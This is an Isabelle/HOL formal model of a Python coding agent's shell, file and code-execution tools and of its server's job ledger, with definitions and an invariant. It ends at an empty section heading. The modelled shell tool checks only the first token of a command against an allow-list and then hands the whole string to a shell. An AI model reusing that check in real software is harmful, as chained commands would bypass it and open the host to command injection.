theory Spec2Isabelle
  imports Main "HOL-Library.Sublist" "HOL-Library.AList"
begin

text \<open>
  A shallow embedding of the coding agent (\<open>agent.py\<close>: \<open>ShellTool\<close>,
  \<open>FilesystemTool\<close>, \<open>CodeExecutionTool\<close>, \<open>ContextManager\<close>,
  \<open>CodingAgent.execute_task\<close> and the loop that publishes the files of a task) and
  of the job ledger of its server (\<open>server.py\<close>: \<open>schedule_task\<close>,
  \<open>process_task\<close>). The file system and the child processes are explicit: a tool
  takes the world and returns its result with the new world, and an exception is a
  value. The definitions come first, the properties after them.
\<close>

section \<open>Strings\<close>

text \<open>
  A Python \<open>str\<close> is modelled as a \<open>string\<close> whose characters are the code points
  below 256. \<open>is_space\<close> is \<open>str.isspace\<close> on that range, \<open>str_split\<close> is
  \<open>str.split()\<close> with no argument (runs of whitespace separate the tokens, no empty
  token is produced), \<open>str_lower\<close> is \<open>str.lower\<close> and \<open>contains\<close> is the
  substring test \<open>sub in s\<close>.
\<close>

definition is_space :: "char \<Rightarrow> bool" where
  "is_space c = (of_char c \<in> {9, 10, 11, 12, 13, 28, 29, 30, 31, 32, 133, 160 :: nat})"

fun tokens :: "string \<Rightarrow> string \<Rightarrow> string list" where
  "tokens cur [] = (if cur = [] then [] else [cur])"
| "tokens cur (c # cs) =
     (if is_space c then (if cur = [] then tokens [] cs else cur # tokens [] cs)
      else tokens (cur @ [c]) cs)"

definition str_split :: "string \<Rightarrow> string list" where
  "str_split s = tokens [] s"

definition lower_char :: "char \<Rightarrow> char" where
  "lower_char c =
     (let n = (of_char c :: nat)
      in if (65 \<le> n \<and> n \<le> 90) \<or> (192 \<le> n \<and> n \<le> 222 \<and> n \<noteq> 215)
         then char_of (n + 32) else c)"

definition str_lower :: "string \<Rightarrow> string" where
  "str_lower s = map lower_char s"

fun contains :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "contains sub [] = (sub = [])"
| "contains sub (c # cs) = (prefix sub (c # cs) \<or> contains sub cs)"

definition quote :: "string \<Rightarrow> string" where
  \<comment> \<open>\<open>repr\<close> of a string that holds no quote, backslash or control character\<close>
  "quote s = CHR 0x27 # s @ [CHR 0x27]"

fun intercalate :: "string \<Rightarrow> string list \<Rightarrow> string" where
  "intercalate sep [] = []"
| "intercalate sep [x] = x"
| "intercalate sep (x # y # ys) = x @ sep @ intercalate sep (y # ys)"

definition list_repr :: "string list \<Rightarrow> string" where
  \<comment> \<open>\<open>str\<close> of a list of strings: \<open>['python3', '/w/temp.py']\<close>\<close>
  "list_repr xs = ''['' @ intercalate '', '' (map quote xs) @ '']''"

text \<open>
  \<open>universal_newlines\<close> is what Python's text layer does to text it reads with the
  default \<open>newline=None\<close>: every \<open>\r\n\<close> and every other \<open>\r\<close> becomes \<open>\n\<close>.
\<close>

fun universal_newlines :: "string \<Rightarrow> string" where
  "universal_newlines [] = []"
| "universal_newlines [c] = [if c = CHR 0x0D then CHR 0x0A else c]"
| "universal_newlines (c # d # cs) =
     (if c = CHR 0x0D
      then CHR 0x0A # (if d = CHR 0x0A then universal_newlines cs else universal_newlines (d # cs))
      else c # universal_newlines (d # cs))"

section \<open>Paths and the file system\<close>

text \<open>
  A \<open>pathlib.Path\<close> built from an absolute root is the list of its components; it keeps
  \<open>..\<close> components as they are written and drops empty and \<open>.\<close> components.
  \<open>path_join p s\<close> is \<open>p / s\<close>: an absolute \<open>s\<close> replaces \<open>p\<close>.

  The file system is a POSIX tree without symbolic links, permissions, quotas or name
  limits: an association list from resolved locations to nodes, read with \<open>node_at\<close>;
  the root is always a directory. Every failure below is one the state of the tree
  decides.
\<close>

type_synonym path = "string list"

fun split_on :: "char \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string list" where
  "split_on d cur [] = [cur]"
| "split_on d cur (c # cs) =
     (if c = d then cur # split_on d [] cs else split_on d (cur @ [c]) cs)"

definition parts :: "string \<Rightarrow> string list" where
  "parts s = filter (\<lambda>c. c \<noteq> [] \<and> c \<noteq> ''.'') (split_on CHR ''/'' [] s)"

definition path_join :: "path \<Rightarrow> string \<Rightarrow> path" where
  "path_join p s = (if s \<noteq> [] \<and> hd s = CHR ''/'' then parts s else p @ parts s)"

definition render :: "path \<Rightarrow> string" where
  \<comment> \<open>\<open>str(path)\<close>\<close>
  "render p = ''/'' @ intercalate ''/'' p"

datatype node = File string | Dir

type_synonym fs = "(path \<times> node) list"

definition node_at :: "fs \<Rightarrow> path \<Rightarrow> node option" where
  "node_at t p = (if p = [] then Some Dir else map_of t p)"

definition is_dir :: "fs \<Rightarrow> path \<Rightarrow> bool" where
  "is_dir t p = (node_at t p = Some Dir)"

definition is_file :: "fs \<Rightarrow> path \<Rightarrow> bool" where
  "is_file t p = (case node_at t p of Some (File _) \<Rightarrow> True | _ \<Rightarrow> False)"

section \<open>Exceptions\<close>

datatype exn =
    FileNotFoundError string
  | FileExistsError string
  | NotADirectoryError string
  | IsADirectoryError string
  | SameFileError string string
  | TimeoutExpired string nat
  | KeyError string
  | UnicodeDecodeError string char nat string
  | OtherError string

fun digits :: "nat \<Rightarrow> string" where
  "digits n = (if n < 10 then [char_of (48 + n)] else digits (n div 10) @ [char_of (48 + n mod 10)])"

declare digits.simps [simp del]

definition hex2 :: "char \<Rightarrow> string" where
  "hex2 b = [''0123456789abcdef'' ! (of_char b div 16), ''0123456789abcdef'' ! (of_char b mod 16)]"

fun str_exn :: "exn \<Rightarrow> string" where
  "str_exn (FileNotFoundError p) = ''[Errno 2] No such file or directory: '' @ quote p"
| "str_exn (FileExistsError p) = ''[Errno 17] File exists: '' @ quote p"
| "str_exn (NotADirectoryError p) = ''[Errno 20] Not a directory: '' @ quote p"
| "str_exn (IsADirectoryError p) = ''[Errno 21] Is a directory: '' @ quote p"
| "str_exn (SameFileError a b) = quote a @ '' and '' @ quote b @ '' are the same file''"
| "str_exn (TimeoutExpired cmd t) =
     ''Command '' @ [CHR 0x27] @ cmd @ [CHR 0x27] @ '' timed out after '' @ digits t @ '' seconds''"
| "str_exn (KeyError k) = quote k"
| "str_exn (UnicodeDecodeError encoding b pos reason) =
     quote encoding @ '' codec can'' @ [CHR 0x27] @ ''t decode byte 0x'' @ hex2 b
       @ '' in position '' @ digits pos @ '': '' @ reason"
| "str_exn (OtherError m) = m"

section \<open>Subprocesses\<close>

text \<open>
  What a child process does is the environment's choice: \<open>os l t\<close> is the behaviour of
  the launch \<open>l\<close> started on the tree \<open>t\<close>.
  \<^item> \<open>Exits out err rc t ps\<close>: the child exits within the timeout. \<open>out\<close> and
    \<open>err\<close> are what it wrote to its standard output and error: text in the
    encoding of the host, or bytes that are not text, with the \<open>UnicodeDecodeError\<close>
    that decoding them raises. \<open>rc\<close> is its exit code, \<open>t\<close> the tree it leaves and
    \<open>ps\<close> the processes it started that are still running.
  \<^item> \<open>Hangs t ps\<close>: the child is still running when the timeout expires.
    \<open>subprocess.run\<close> then kills the one process it started (the shell for
    \<open>shell=True\<close>, the interpreter for an argument list) and no other. \<open>t\<close> is the
    tree at that moment and \<open>ps\<close> are the processes started by the child that are
    still running after the kill.
  \<^item> \<open>NoLaunch e\<close>: the child cannot be started.

  \<open>subprocess_run\<close> is \<open>subprocess.run\<close> with \<open>capture_output=True, text=True\<close>
  and a timeout: once the child has exited, \<open>communicate\<close> decodes what was captured,
  standard output first, and translates the newlines. The world records every call of
  \<open>subprocess.run\<close> and every process that is left running.
\<close>

datatype launch = Shell string path | Argv "string list" path

datatype capture = Text string | NotText exn

datatype behaviour =
    Exits capture capture int fs "string list"
  | Hangs fs "string list"
  | NoLaunch exn

type_synonym os = "launch \<Rightarrow> fs \<Rightarrow> behaviour"

record world =
  files :: fs
  calls :: "launch list"
  left_running :: "string list"

fun cmd_str :: "launch \<Rightarrow> string" where
  "cmd_str (Shell c cwd) = c"
| "cmd_str (Argv args cwd) = list_repr args"

fun communicate :: "capture \<Rightarrow> capture \<Rightarrow> int \<Rightarrow> exn + string \<times> string \<times> int" where
  "communicate (NotText e) err rc = Inl e"
| "communicate (Text out) (NotText e) rc = Inl e"
| "communicate (Text out) (Text err) rc = Inr (universal_newlines out, universal_newlines err, rc)"

definition subprocess_run ::
  "os \<Rightarrow> launch \<Rightarrow> nat \<Rightarrow> world \<Rightarrow> (exn + string \<times> string \<times> int) \<times> world" where
  "subprocess_run env l timeout w =
     (let w1 = w\<lparr>calls := calls w @ [l]\<rparr>
      in case env l (files w) of
           Exits out err rc t ps \<Rightarrow>
             (communicate out err rc, w1\<lparr>files := t, left_running := left_running w @ ps\<rparr>)
         | Hangs t ps \<Rightarrow>
             (Inl (TimeoutExpired (cmd_str l) timeout),
              w1\<lparr>files := t, left_running := left_running w @ ps\<rparr>)
         | NoLaunch e \<Rightarrow> (Inl e, w1))"

section \<open>Tool results\<close>

text \<open>
  The dictionaries the tools return: \<open>{"stdout", "stderr", "returncode"}\<close>,
  \<open>{"error": message}\<close>, \<open>{"success": True, "path": p}\<close> and
  \<open>{"success": True, "content": c}\<close>.
\<close>

datatype result =
    Output string string int
  | Error string
  | Created string
  | Content string

fun completed :: "(exn + string \<times> string \<times> int) \<Rightarrow> result" where
  "completed (Inr (out, err, rc)) = Output out err rc"
| "completed (Inl e) = Error (str_exn e)"

section \<open>ShellTool\<close>

definition allowed_commands :: "string set" where
  "allowed_commands =
     {''ls'', ''cat'', ''echo'', ''mkdir'', ''touch'', ''rm'', ''cp'', ''mv'',
      ''npm'', ''npx'', ''node'', ''python'', ''pip''}"

definition execute :: "os \<Rightarrow> path \<Rightarrow> string \<Rightarrow> world \<Rightarrow> result \<times> world" where
  "execute env workspace_dir command w =
     (case str_split command of
        [] \<Rightarrow> (Error ''Empty command'', w)
      | base_cmd # rest \<Rightarrow>
          if base_cmd \<notin> allowed_commands
          then (Error (''Command not allowed: '' @ base_cmd), w)
          else (case subprocess_run env (Shell command workspace_dir) 30 w of
                  (r, w') \<Rightarrow> (completed r, w')))"

section \<open>File-system operations\<close>

text \<open>
  \<open>walk\<close> is the kernel's path resolution: every component is looked up in a
  directory that exists, \<open>..\<close> steps to the parent, and the last component need not
  exist. \<open>name\<close> is the path as the caller wrote it, for the error message.
\<close>

fun walk :: "fs \<Rightarrow> string \<Rightarrow> path \<Rightarrow> string list \<Rightarrow> exn + path" where
  "walk t name cur [] = Inr cur"
| "walk t name cur (c # cs) =
     (case node_at t cur of
        Some Dir \<Rightarrow> walk t name (if c = ''..'' then butlast cur else cur @ [c]) cs
      | Some (File x) \<Rightarrow> Inl (NotADirectoryError name)
      | None \<Rightarrow> Inl (FileNotFoundError name))"

definition locate :: "fs \<Rightarrow> path \<Rightarrow> exn + path" where
  "locate t p = walk t (render p) [] p"

text \<open>
  \<open>mkdirs\<close> is \<open>Path.mkdir(parents=True, exist_ok=True)\<close>: it goes down the
  components, keeps the directories that exist, creates the missing ones and stops at
  a regular file. \<open>mkdir exist_ok\<close> is \<open>Path.mkdir(exist_ok=...)\<close> without
  \<open>parents\<close>, on a path of plain names.
\<close>

fun mkdirs :: "string \<Rightarrow> path \<Rightarrow> string list \<Rightarrow> fs \<Rightarrow> exn + fs" where
  "mkdirs name cur [] t = Inr t"
| "mkdirs name cur (c # cs) t =
     (if c = ''..'' then mkdirs name (butlast cur) cs t
      else case node_at t (cur @ [c]) of
             Some Dir \<Rightarrow> mkdirs name (cur @ [c]) cs t
           | Some (File x) \<Rightarrow>
               Inl (if cs = [] then FileExistsError name else NotADirectoryError name)
           | None \<Rightarrow> mkdirs name (cur @ [c]) cs (t @ [(cur @ [c], Dir)]))"

definition mkdir_parents :: "path \<Rightarrow> fs \<Rightarrow> exn + fs" where
  "mkdir_parents p t = mkdirs (render p) [] p t"

definition mkdir :: "bool \<Rightarrow> path \<Rightarrow> fs \<Rightarrow> exn + fs" where
  "mkdir exist_ok p t =
     (case node_at t p of
        Some Dir \<Rightarrow> if exist_ok then Inr t else Inl (FileExistsError (render p))
      | Some (File x) \<Rightarrow> Inl (FileExistsError (render p))
      | None \<Rightarrow>
          (case node_at t (butlast p) of
             Some Dir \<Rightarrow> Inr (t @ [(p, Dir)])
           | Some (File x) \<Rightarrow> Inl (NotADirectoryError (render p))
           | None \<Rightarrow> Inl (FileNotFoundError (render p))))"

text \<open>
  \<open>write_file\<close> is \<open>open(p, 'w')\<close> followed by \<open>f.write(content)\<close>; on POSIX the
  text layer writes the characters as they are. \<open>read_text\<close> is \<open>open(p, 'r')\<close>
  followed by \<open>f.read()\<close>: the default \<open>newline=None\<close> is universal-newlines mode,
  which hands back \<open>\r\n\<close> and \<open>\r\<close> as \<open>\n\<close>.
\<close>

definition write_file :: "path \<Rightarrow> string \<Rightarrow> fs \<Rightarrow> exn + fs" where
  "write_file p content t =
     (case locate t p of
        Inl e \<Rightarrow> Inl e
      | Inr loc \<Rightarrow>
          (case node_at t loc of
             Some Dir \<Rightarrow> Inl (IsADirectoryError (render p))
           | _ \<Rightarrow> Inr (AList.update loc (File content) t)))"

definition read_text :: "path \<Rightarrow> fs \<Rightarrow> exn + string" where
  "read_text p t =
     (case locate t p of
        Inl e \<Rightarrow> Inl e
      | Inr loc \<Rightarrow>
          (case node_at t loc of
             Some (File c) \<Rightarrow> Inr (universal_newlines c)
           | Some Dir \<Rightarrow> Inl (IsADirectoryError (render p))
           | None \<Rightarrow> Inl (FileNotFoundError (render p))))"

definition unlink :: "path \<Rightarrow> fs \<Rightarrow> exn + fs" where
  "unlink p t =
     (case node_at t p of
        Some (File c) \<Rightarrow> Inr (AList.delete p t)
      | Some Dir \<Rightarrow> Inl (IsADirectoryError (render p))
      | None \<Rightarrow> Inl (FileNotFoundError (render p)))"

text \<open>
  \<open>glob_all root\<close> is \<open>root.glob("**/*")\<close>: everything strictly below \<open>root\<close>, listed
  before the loop body runs. \<open>copy2\<close> is \<open>shutil.copy2\<close> on the bytes of a regular
  file: a destination that is a directory receives the file under its base name, and a
  file is not copied onto itself.
\<close>

definition glob_all :: "path \<Rightarrow> fs \<Rightarrow> path list" where
  "glob_all root t = filter (strict_prefix root) (map fst t)"

definition copy2 :: "path \<Rightarrow> path \<Rightarrow> fs \<Rightarrow> exn + fs" where
  "copy2 src dst t =
     (let dst' = (if is_dir t dst then dst @ [last src] else dst)
      in if dst' = src \<and> node_at t src \<noteq> None
         then Inl (SameFileError (render src) (render dst'))
         else case node_at t src of
                None \<Rightarrow> Inl (FileNotFoundError (render src))
              | Some Dir \<Rightarrow> Inl (IsADirectoryError (render src))
              | Some (File c) \<Rightarrow>
                  (case node_at t dst' of
                     Some Dir \<Rightarrow> Inl (IsADirectoryError (render dst'))
                   | _ \<Rightarrow>
                       (case node_at t (butlast dst') of
                          Some Dir \<Rightarrow> Inr (AList.update dst' (File c) t)
                        | Some (File x) \<Rightarrow> Inl (NotADirectoryError (render dst'))
                        | None \<Rightarrow> Inl (FileNotFoundError (render dst')))))"

section \<open>FilesystemTool\<close>

definition create_file :: "path \<Rightarrow> string \<Rightarrow> string \<Rightarrow> world \<Rightarrow> result \<times> world" where
  "create_file workspace_dir filename content w =
     (let file_path = path_join workspace_dir filename
      in case mkdir_parents (butlast file_path) (files w) of
           Inl e \<Rightarrow> (Error (str_exn e), w)
         | Inr t1 \<Rightarrow>
             (case write_file file_path content t1 of
                Inl e \<Rightarrow> (Error (str_exn e), w\<lparr>files := t1\<rparr>)
              | Inr t2 \<Rightarrow> (Created (render file_path), w\<lparr>files := t2\<rparr>)))"

definition read_file :: "path \<Rightarrow> string \<Rightarrow> world \<Rightarrow> result \<times> world" where
  "read_file workspace_dir filename w =
     (let file_path = path_join workspace_dir filename
      in case read_text file_path (files w) of
           Inl e \<Rightarrow> (Error (str_exn e), w)
         | Inr content \<Rightarrow> (Content content, w))"

section \<open>CodeExecutionTool\<close>

text \<open>
  \<open>run_python\<close> and \<open>run_javascript\<close> have one body, which differs in the
  interpreter and the extension only. \<open>uuid\<close> is the text of \<open>uuid.uuid4()\<close>.
\<close>

definition run_snippet ::
  "string \<Rightarrow> string \<Rightarrow> os \<Rightarrow> path \<Rightarrow> string \<Rightarrow> string \<Rightarrow> world \<Rightarrow> result \<times> world" where
  "run_snippet interpreter ext env workspace_dir uuid code w =
     (let temp_file = workspace_dir @ [''temp_'' @ uuid @ ext]
      in case write_file temp_file code (files w) of
           Inl e \<Rightarrow> (Error (str_exn e), w)
         | Inr t1 \<Rightarrow>
             (case subprocess_run env (Argv [interpreter, render temp_file] workspace_dir) 30
                     (w\<lparr>files := t1\<rparr>) of
                (Inl e, w2) \<Rightarrow> (Error (str_exn e), w2)
              | (Inr (out, err, rc), w2) \<Rightarrow>
                  (case unlink temp_file (files w2) of
                     Inl e \<Rightarrow> (Error (str_exn e), w2)
                   | Inr t3 \<Rightarrow> (Output out err rc, w2\<lparr>files := t3\<rparr>))))"

definition run_python :: "os \<Rightarrow> path \<Rightarrow> string \<Rightarrow> string \<Rightarrow> world \<Rightarrow> result \<times> world" where
  "run_python = run_snippet ''python3'' ''.py''"

definition run_javascript :: "os \<Rightarrow> path \<Rightarrow> string \<Rightarrow> string \<Rightarrow> world \<Rightarrow> result \<times> world" where
  "run_javascript = run_snippet ''node'' ''.js''"

section \<open>ContextManager\<close>

text \<open>
  A clock reading is \<open>time.time()\<close> in whole seconds with the day
  \<open>time.strftime("%Y-%m-%d")\<close>; \<open>dumps\<close> is the text \<open>json.dump\<close> writes for an
  entry. \<open>add\<close> appends the entry in memory first and saves it to disk afterwards.
\<close>

record entry =
  at :: nat
  source :: string
  message :: string

record agent =
  workspace_dir :: path
  outputs_dir :: path
  context_dir :: path
  current_context :: "entry list"

type_synonym clock = "nat \<times> string"

definition context_add ::
  "(entry \<Rightarrow> string) \<Rightarrow> clock \<Rightarrow> string \<Rightarrow> string \<Rightarrow> agent \<Rightarrow> fs \<Rightarrow> (exn + unit) \<times> agent \<times> fs" where
  "context_add dumps clk msg src a t =
     (let e = \<lparr>at = fst clk, source = src, message = msg\<rparr>;
          a1 = a\<lparr>current_context := current_context a @ [e]\<rparr>;
          save_dir = context_dir a @ [snd clk]
      in case mkdir True save_dir t of
           Inl x \<Rightarrow> (Inl x, a1, t)
         | Inr t1 \<Rightarrow>
             (case write_file (save_dir @ [digits (fst clk) @ ''.json'']) (dumps e) t1 of
                Inl x \<Rightarrow> (Inl x, a1, t1)
              | Inr t2 \<Rightarrow> (Inr (), a1, t2)))"

section \<open>CodingAgent\<close>

text \<open>
  A task ends with \<open>{"task_id", "status": "completed", "output_dir"}\<close> or with
  \<open>{"status": "failed", "error"}\<close>. The two builders
  \<open>_implement_react_todo_app\<close> and \<open>_implement_generic_task\<close> are parameters of
  \<open>execute_task\<close>: each takes the task id, the task directory and the description, and
  returns a result or raises. \<open>Inl\<close> in the result of \<open>execute_task\<close> is an exception
  that leaves the call.
\<close>

datatype task_result = TaskCompleted string string | TaskFailed string

type_synonym callback =
  "string \<Rightarrow> path \<Rightarrow> string \<Rightarrow> agent \<Rightarrow> world \<Rightarrow> (exn + task_result) \<times> agent \<times> world"

definition execute_task_try ::
  "(entry \<Rightarrow> string) \<Rightarrow> callback \<Rightarrow> callback \<Rightarrow> string \<Rightarrow> clock \<Rightarrow> string \<Rightarrow> agent \<Rightarrow> world
     \<Rightarrow> (exn + task_result) \<times> agent \<times> world" where
  "execute_task_try dumps react generic task_id clk task_description a w =
     (let task_dir = workspace_dir a @ [task_id]
      in case mkdir False task_dir (files w) of
           Inl e \<Rightarrow> (Inl e, a, w)
         | Inr t1 \<Rightarrow>
             (case context_add dumps clk (''New task: '' @ task_description) ''system'' a t1 of
                (Inl e, a1, t2) \<Rightarrow> (Inl e, a1, w\<lparr>files := t2\<rparr>)
              | (Inr u, a1, t2) \<Rightarrow>
                  if contains ''todo'' (str_lower task_description)
                     \<and> contains ''react'' (str_lower task_description)
                  then react task_id task_dir task_description a1 (w\<lparr>files := t2\<rparr>)
                  else generic task_id task_dir task_description a1 (w\<lparr>files := t2\<rparr>)))"

definition execute_task ::
  "(entry \<Rightarrow> string) \<Rightarrow> callback \<Rightarrow> callback \<Rightarrow> string \<Rightarrow> clock \<Rightarrow> clock \<Rightarrow> string \<Rightarrow> agent \<Rightarrow> world
     \<Rightarrow> (exn + task_result) \<times> agent \<times> world" where
  "execute_task dumps react generic task_id clk clk' task_description a w =
     (case execute_task_try dumps react generic task_id clk task_description a w of
        (Inr r, a1, w1) \<Rightarrow> (Inr r, a1, w1)
      | (Inl e, a1, w1) \<Rightarrow>
          (case context_add dumps clk' (''Task failed: '' @ str_exn e) ''system'' a1 (files w1) of
             (Inl e', a2, t2) \<Rightarrow> (Inl e', a2, w1\<lparr>files := t2\<rparr>)
           | (Inr u, a2, t2) \<Rightarrow> (Inr (TaskFailed (str_exn e)), a2, w1\<lparr>files := t2\<rparr>)))"

section \<open>Publishing the files of a task\<close>

text \<open>
  The loop that ends both builders and the completed branch of \<open>process_task\<close>: every
  regular file below \<open>src\<close> is copied to the same relative path below \<open>dst\<close>.
  The builders create \<open>dst\<close> with \<open>parents=True\<close>, \<open>process_task\<close> without. The
  number in the result counts the calls of \<open>shutil.copy2\<close>; the source does not
  return it.
\<close>

fun copy_items :: "path \<Rightarrow> path \<Rightarrow> path list \<Rightarrow> fs \<Rightarrow> exn + nat \<times> fs" where
  "copy_items src dst [] t = Inr (0, t)"
| "copy_items src dst (item # items) t =
     (if is_file t item
      then (let relative_path = drop (length src) item;
                target_path = dst @ relative_path
            in case mkdir_parents (butlast target_path) t of
                 Inl e \<Rightarrow> Inl e
               | Inr t1 \<Rightarrow>
                   (case copy2 item target_path t1 of
                      Inl e \<Rightarrow> Inl e
                    | Inr t2 \<Rightarrow>
                        (case copy_items src dst items t2 of
                           Inl e \<Rightarrow> Inl e
                         | Inr (n, t3) \<Rightarrow> Inr (Suc n, t3))))
      else copy_items src dst items t)"

definition publish :: "bool \<Rightarrow> path \<Rightarrow> path \<Rightarrow> fs \<Rightarrow> exn + nat \<times> fs" where
  "publish parents src dst t =
     (case (if parents then mkdir_parents dst t else mkdir True dst t) of
        Inl e \<Rightarrow> Inl e
      | Inr t1 \<Rightarrow> copy_items src dst (glob_all src t1) t1)"

text \<open>
  A tree as every file system has it: no name is \<open>..\<close> and nothing lies below a
  regular file.
\<close>

definition plain :: "path \<Rightarrow> bool" where
  "plain p = (''..'' \<notin> set p)"

definition tree_like :: "fs \<Rightarrow> bool" where
  "tree_like t =
     list_all (\<lambda>q. plain q \<and> list_all (\<lambda>p. p = q \<or> \<not> is_file t p) (prefixes q)) (map fst t)"

text \<open>
  For the proofs about \<open>publish\<close>. The locations a publication into \<open>dst\<close> may
  write lie on the way to \<open>dst\<close> or below it. \<open>grows dst t t'\<close>: \<open>t'\<close> is \<open>t\<close>
  but for such locations, and every directory of \<open>t\<close> is one of \<open>t'\<close>.
  \<open>settled src dst t item c\<close>: the copy of \<open>item\<close> with content \<open>c\<close> is in place, so
  that copying it again changes nothing.
\<close>

definition beside :: "path \<Rightarrow> path \<Rightarrow> bool" where
  "beside dst q = (prefix q dst \<or> prefix dst q)"

definition grows :: "path \<Rightarrow> fs \<Rightarrow> fs \<Rightarrow> bool" where
  "grows dst t t' =
     ((\<forall>p. \<not> beside dst p \<longrightarrow> map_of t' p = map_of t p) \<and>
      filter (\<lambda>p. \<not> beside dst p) (map fst t') = filter (\<lambda>p. \<not> beside dst p) (map fst t) \<and>
      (\<forall>p. is_dir t p \<longrightarrow> is_dir t' p))"

definition target :: "path \<Rightarrow> path \<Rightarrow> path \<Rightarrow> path" where
  "target src dst item = dst @ drop (length src) item"

definition dest :: "path \<Rightarrow> path \<Rightarrow> fs \<Rightarrow> path \<Rightarrow> path" where
  "dest src dst t item =
     (if is_dir t (target src dst item) then target src dst item @ [last item]
      else target src dst item)"

definition settled :: "path \<Rightarrow> path \<Rightarrow> fs \<Rightarrow> path \<Rightarrow> string \<Rightarrow> bool" where
  "settled src dst t item c =
     ((\<forall>q. q \<noteq> [] \<and> prefix q (butlast (target src dst item)) \<longrightarrow> is_dir t q) \<and>
      node_at t (dest src dst t item) = Some (File c))"

section \<open>The job ledger of the server\<close>

text \<open>
  \<open>jobs\<close> is the dictionary of the server, \<open>background\<close> the calls of
  \<open>process_task\<close> handed to \<open>background_tasks\<close> and not started yet, \<open>in_flight\<close>
  the calls that have started and not finished. \<open>trace\<close> is not in the source: it
  records, for each job, every value written to its \<open>status\<close>, in order.
\<close>

datatype status = Scheduled | Running | Completed | Failed

record job =
  job_id :: string
  task :: string
  status :: status
  created_at :: nat
  completed_at :: "nat option"
  job_error :: "string option"

record server =
  jobs :: "string \<rightharpoonup> job"
  background :: "(string \<times> string) list"
  in_flight :: "string list"
  trace :: "string \<Rightarrow> status list"

definition server0 :: server where
  "server0 = \<lparr>jobs = Map.empty, background = [], in_flight = [], trace = (\<lambda>j. [])\<rparr>"

text \<open>
  \<open>schedule_task\<close>: \<open>io\<close> is the exception, if any, of creating the job directory and
  writing \<open>task.txt\<close>, which comes before the ledger is touched.
\<close>

definition schedule_task :: "exn option \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> server \<Rightarrow> exn + server" where
  "schedule_task io uuid now task_text s =
     (case io of
        Some e \<Rightarrow> Inl e
      | None \<Rightarrow>
          Inr (s\<lparr>jobs := (jobs s)(uuid \<mapsto>
                   \<lparr>job_id = uuid, task = task_text, status = Scheduled, created_at = now,
                    completed_at = None, job_error = None\<rparr>),
                 background := background s @ [(uuid, task_text)],
                 trace := (trace s)(uuid := trace s uuid @ [Scheduled])\<rparr>))"

definition set_status :: "string \<Rightarrow> status \<Rightarrow> server \<Rightarrow> exn + server" where
  \<comment> \<open>\<open>jobs[job_id]["status"] = st\<close>\<close>
  "set_status j st s =
     (case jobs s j of
        None \<Rightarrow> Inl (KeyError j)
      | Some r \<Rightarrow>
          Inr (s\<lparr>jobs := (jobs s)(j \<mapsto> r\<lparr>status := st\<rparr>),
                 trace := (trace s)(j := trace s j @ [st])\<rparr>))"

definition mark_failed :: "string \<Rightarrow> string \<Rightarrow> server \<Rightarrow> exn + server" where
  "mark_failed j msg s =
     (case set_status j Failed s of
        Inl e \<Rightarrow> Inl e
      | Inr s1 \<Rightarrow> Inr (s1\<lparr>jobs := (jobs s1)(j := map_option (\<lambda>r. r\<lparr>job_error := Some msg\<rparr>) (jobs s1 j))\<rparr>))"

definition mark_completed :: "string \<Rightarrow> nat \<Rightarrow> server \<Rightarrow> exn + server" where
  "mark_completed j now s =
     (case set_status j Completed s of
        Inl e \<Rightarrow> Inl e
      | Inr s1 \<Rightarrow> Inr (s1\<lparr>jobs := (jobs s1)(j := map_option (\<lambda>r. r\<lparr>completed_at := Some now\<rparr>) (jobs s1 j))\<rparr>))"

text \<open>
  \<open>process_task\<close> in two parts: its first statement, and the rest. \<open>work\<close> is what
  \<open>CodingAgent()\<close> and \<open>execute_task\<close> do (an exception or a result), \<open>copied\<close> the
  exception, if any, of copying the output into the job directory.
\<close>

definition process_task_enter :: "string \<Rightarrow> server \<Rightarrow> exn + server" where
  "process_task_enter j s = set_status j Running s"

definition process_task_rest ::
  "(exn + task_result) \<Rightarrow> exn option \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> server \<Rightarrow> exn + server" where
  "process_task_rest work copied now j s =
     (case work of
        Inl e \<Rightarrow> mark_failed j (str_exn e) s
      | Inr (TaskCompleted tid out) \<Rightarrow>
          (case copied of
             Some e \<Rightarrow> mark_failed j (str_exn e) s
           | None \<Rightarrow> mark_completed j now s)
      | Inr (TaskFailed msg) \<Rightarrow> mark_failed j msg s)"

definition process_task ::
  "(exn + task_result) \<Rightarrow> exn option \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> server \<Rightarrow> exn + server" where
  "process_task work copied now j s =
     (case process_task_enter j s of
        Inl e \<Rightarrow> mark_failed j (str_exn e) s
      | Inr s1 \<Rightarrow> process_task_rest work copied now j s1)"

text \<open>
  The steps of the server. A job id is a fresh \<open>uuid4\<close>; a queued call starts once
  and a started call finishes once. The read-only routes change nothing.
\<close>

inductive step :: "server \<Rightarrow> server \<Rightarrow> bool" where
  schedule:
    "uuid \<notin> dom (jobs s) \<Longrightarrow> schedule_task None uuid now task_text s = Inr s' \<Longrightarrow> step s s'"
| enter:
    "(j, task_text) \<in> set (background s) \<Longrightarrow> process_task_enter j s = Inr s1 \<Longrightarrow>
     step s (s1\<lparr>background := remove1 (j, task_text) (background s1),
                in_flight := j # in_flight s1\<rparr>)"
| finish:
    "j \<in> set (in_flight s) \<Longrightarrow> process_task_rest work copied now j s = Inr s1 \<Longrightarrow>
     step s (s1\<lparr>in_flight := remove1 j (in_flight s1)\<rparr>)"
| query:
    "step s s"

inductive reachable :: "server \<Rightarrow> bool" where
  start: "reachable server0"
| later: "reachable s \<Longrightarrow> step s s' \<Longrightarrow> reachable s'"

definition lifecycle :: "status list \<Rightarrow> bool" where
  "lifecycle xs =
     (prefix xs [Scheduled, Running, Completed] \<or> prefix xs [Scheduled, Running, Failed])"

text \<open>
  What holds of the ledger in every reachable state: a queued job has been
  \<open>scheduled\<close> only, a started one is \<open>running\<close>, and every other job has
  finished.
\<close>

definition ledger_inv :: "server \<Rightarrow> bool" where
  "ledger_inv s =
     (distinct (map fst (background s)) \<and> distinct (in_flight s) \<and>
      (\<forall>j. case jobs s j of
              None \<Rightarrow> trace s j = [] \<and> j \<notin> fst ` set (background s) \<and> j \<notin> set (in_flight s)
            | Some r \<Rightarrow>
                status r = last (trace s j) \<and>
                (if j \<in> fst ` set (background s)
                 then trace s j = [Scheduled] \<and> j \<notin> set (in_flight s)
                 else if j \<in> set (in_flight s) then trace s j = [Scheduled, Running]
                 else trace s j = [Scheduled, Running, Completed]
                      \<or> trace s j = [Scheduled, Running, Failed])))"

section \<open>Sample worlds\<close>

